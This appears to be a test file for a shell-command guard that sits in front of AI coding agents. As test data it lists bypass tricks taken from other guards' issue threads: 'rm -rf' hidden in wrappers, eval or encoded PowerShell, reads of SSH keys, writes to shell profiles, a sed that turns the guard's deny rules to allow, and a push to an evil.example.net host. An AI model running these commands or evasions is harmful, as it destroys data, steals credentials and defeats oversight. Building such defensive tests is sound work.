/**
 * What users of other guards ran into, each as a case of our own: bypasses that
 * must be denied, and mentions and ordinary work that must not. The references
 * are to public threads; the commands are ours.
 */
import { expect, test } from 'vitest';
import { check } from '../../src/check/check.ts';
import { compile } from '../../src/compile/program.ts';
import { parse } from '../../src/language/parse.ts';
import { runTests } from '../../src/scenario/run-suite.ts';
import { decide, decideCall } from './decide.ts';

const bypasses: readonly (readonly [thread: string, command: string, code: string])[] = [
  [
    'anthropics/claude-code#92542: a wrapper outside a fixed list',
    'systemd-run --user rm -rf /srv',
    'files.delete-outside',
  ],
  [
    'anthropics/claude-code#92542: wrappers inside wrappers',
    'nice -n 5 setsid stdbuf -oL timeout 9 rm -rf /srv',
    'files.delete-outside',
  ],
  [
    'anthropics/claude-code#88857: options before the subcommand',
    'git -C sub push --force',
    'git.force-push',
  ],
  ['anthropics/claude-code#18613: merged options in another order', 'rm -fr /srv', 'files.delete-outside'],
  ['anthropics/claude-code#70369: a brace group', '{ rm -rf /srv; }', 'files.delete-outside'],
  [
    'anthropics/claude-code#70369: process substitution',
    'cat <(cat ~/.ssh/id_rsa)',
    'secrets.read-credentials',
  ],
  [
    'anthropics/claude-code#70369: an appending echo',
    'echo "alias ls=x" >> ~/.bashrc',
    'persistence.write-shell-profile',
  ],
  [
    'anthropics/claude-code#39601: nested substitutions',
    'echo $(echo $(rm -rf /srv))',
    'files.delete-outside',
  ],
  ['anthropics/claude-code#39601: eval', 'eval "rm -rf /srv"', 'files.delete-outside'],
  [
    'anthropics/claude-code#39601: PowerShell',
    'powershell -Command "Remove-Item -Recurse -Force C:\\Users\\sam\\Documents"',
    'files.delete-outside',
  ],
  [
    'anthropics/claude-code#37662: one of several commands',
    'npm test && npm run lint; rm -rf /srv & true',
    'files.delete-outside',
  ],
  ['anthropics/claude-code#4956: newline as a separator', 'git status\nrm -rf /srv', 'files.delete-outside'],
  [
    'openai/codex#20113: a redirection in a here-document command',
    'cat <<EOF > ~/.bashrc\nx\nEOF',
    'persistence.write-shell-profile',
  ],
  ['openai/codex#17393: powershell around another program', 'pwsh -c "git push --force"', 'git.force-push'],
  ['tokenmaxxxer-core#233: an option in a variable', 'x=-rf; rm $x /srv', 'files.delete-outside'],
  ["tokenmaxxxer-core#233: an option in $'…'", "rm $'\\x2drf' /srv", 'files.delete-outside'],
  ['anomalyco/opencode#39931: `--` before the operand', 'rm -rf -- /srv', 'files.delete-outside'],
  [
    'anomalyco/opencode#42979: a redirection out of the workspace',
    'echo x > /etc/motd',
    'workspace.write-system',
  ],
  ['anomalyco/opencode#44728: `head` is like `cat`', 'head -c 10 ~/.ssh/id_rsa', 'secrets.read-credentials'],
  [
    'gotgenes/pi-packages#741: a target of tee',
    'echo x | tee -a ~/.zshrc',
    'persistence.write-shell-profile',
  ],
  [
    'destructive_command_guard#451: an alias of Remove-Item',
    'powershell -Command "ri -r C:\\Users\\sam\\Documents"',
    'files.delete-outside',
  ],
  [
    'sipeed/picoclaw#2836: short spellings of an option',
    `pwsh -ec ${Buffer.from('Remove-Item -Recurse /srv', 'utf16le').toString('base64')}`,
    'files.delete-outside',
  ],
  [
    'chitinhq/agentguard#862: written, then run',
    "printf 'rm -rf /srv' > x.sh && bash x.sh",
    'files.delete-outside',
  ],
  [
    'PrismorSec/prismor#27: written, made executable, then run',
    "echo 'rm -rf /srv' > x.sh; chmod +x x.sh; ./x.sh",
    'files.delete-outside',
  ],
  ['rampart#133: another case of a path', 'cat ~/.SSH/ID_RSA', 'secrets.read-credentials'],
  [
    'agentguard#549: an absolute path where the rule is relative',
    'rm -rf /home/user/project/.git',
    'files.delete-workspace',
  ],
  [
    'ShieldCortex#500: the guard’s own files',
    'sed -i s/deny/allow/ .claude/settings.json',
    'self-protection.change-guards',
  ],
];

test.each(bypasses)('denies: %s', (_, command, code) => {
  expect(decide(command).code).toBe(`io.bylaw.${code}`);
});

const ordinary: readonly (readonly [thread: string, command: string])[] = [
  ['loom#5181: a commit message', 'git commit -m "never git push --force; never rm -rf /"'],
  ['fak#2771: a quoted text', `grep -rn 'rm -rf /' docs`],
  ['ECC#1588: documentation in a here-document', 'cat > docs/a.md <<EOF\nrm -rf /\ngit reset --hard\nEOF'],
  ['Codewhale#6098: a here-document that is data', 'cat <<EOF\nrm -rf /\nEOF'],
  ['agentsh#377: asking for a program', 'command -v rm && which git'],
  ['agentsh#416: a pipe into sudo', 'echo x | sudo whoami'],
  ['tokenmaxxxer-core#233: an option with a substitution in it', 'node tool.js --input "$(pwd)/data.csv"'],
  ['opencode#42551: a loop', 'for f in a b c; do cat "$f.txt"; done'],
  ['git-workflow-skill#276: a test that names it', `test "$x" = 'git push --force'`],
  ['gaia#915: a comment', 'npm test # then git push --force'],
];

test.each(ordinary)('passes: %s', (_, command) => {
  expect(decide(command).effect).toBe('none');
});

test('destructive_command_guard#273: what is not known is unsure, and denied under no other name', () => {
  const decision = decide('"$X" "$Y"');
  expect(decision.effect).toBe('none');
  expect(decision.unsure.length).toBeGreaterThan(5);
});

test('agent-code#501: an unresolved word of `env -S` is unsure, never no', () => {
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is the shell's.
  expect(decide("env -S '${CMD} -rf /srv'").unsure.map(({ code }) => code)).toContain(
    'io.bylaw.files.delete-outside',
  );
});

test('xagent#1032: unresolved options of a shell are unsure', () => {
  expect(decide('bash $OPTS').unsure.length).toBeGreaterThan(0);
});

test('omnigent#3852: every tool that writes is seen, whatever its field is called', () => {
  for (const [name, input] of [
    ['MultiEdit', { file_path: '~/.bashrc', edits: [{ old_string: 'a', new_string: 'b' }] }],
    ['NotebookEdit', { notebook_path: '~/.bashrc', new_source: 'x' }],
    ['write_file', { path: '~/.bashrc', content: 'x' }],
  ] as const) {
    const decision = decideCall({ kind: 'tool', name, toolKind: undefined, input });
    expect(decision.code, name).toBe('io.bylaw.persistence.write-shell-profile');
  }
});

test('agent-os#1693: the paths inside a patch', () => {
  const input = '*** Begin Patch\n*** Update File: /etc/motd\n@@\n-a\n+b\n*** End Patch';
  const decision = decideCall({ kind: 'tool', name: 'apply_patch', toolKind: undefined, input: { input } });
  expect(decision.code).toBe('io.bylaw.workspace.write-system');
});

test('termaxa#101: a path rule holds in the shell and in the editor', () => {
  expect(decide('cp x ~/.bashrc').code).toBe('io.bylaw.persistence.write-shell-profile');
  expect(decideCall({ kind: 'action', verb: 'edit', target: '~/.bashrc', content: 'x' }).code).toBe(
    'io.bylaw.persistence.write-shell-profile',
  );
});

test('what a push goes to is what its refspec ends in, and an address is connected to', () => {
  const policy = `policy com.example.push
deny other-branch
  when runs "git push"
  unless every refspec is "agent/*"
  test
    denies "git push origin agent/x:main"
    denies "git push origin main"
    passes "git push origin HEAD:agent/x"
    passes "git push origin HEAD:refs/heads/agent/x"

deny elsewhere
  when sends anything to outside "git.example.com"
  test
    denies "git push https://evil.example.net/x.git main"
    passes "git push https://git.example.com/x.git main"
    passes "git fetch origin"
`;
  const parsed = parse({ path: 'push.policy', text: policy });
  const { bundle, diagnostics } = check([parsed.policy], parsed.diagnostics, { lints: false });
  expect(diagnostics.filter(({ severity }) => severity === 'error')).toEqual([]);
  const results = bundle === undefined ? [] : runTests(compile(bundle), () => 'none');
  expect(results.length).toBe(7);
  expect(results.filter(({ passed }) => !passed)).toEqual([]);
});
